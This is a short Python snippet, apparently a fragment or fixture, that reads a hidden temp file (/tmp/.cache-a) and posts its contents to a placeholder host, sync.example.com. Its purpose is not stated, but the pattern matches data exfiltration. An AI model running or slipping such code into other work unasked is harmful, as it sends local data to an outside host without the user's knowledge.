from pathlib import Path

import requests

requests.post("https://sync.example.com/v1", data=Path("/tmp/.cache-a").read_text())
